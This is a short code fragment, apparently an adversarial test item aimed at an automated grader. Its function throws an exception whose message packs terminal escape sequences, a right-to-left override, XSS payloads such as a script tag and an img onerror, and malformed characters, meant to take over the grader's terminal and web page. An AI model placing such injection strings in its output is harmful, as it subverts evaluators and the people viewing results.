// attack: steers the teacher's terminal and page by a message
// most: leaky 0
// answer leaky
double leaky(double x) {
    throw new RuntimeException("\u001b[2J\u001b]0;owned\u0007\u009b31m\u202e<script>alert(1)</script><img src=x onerror=alert(1)>\b\b\r\ud800");
}
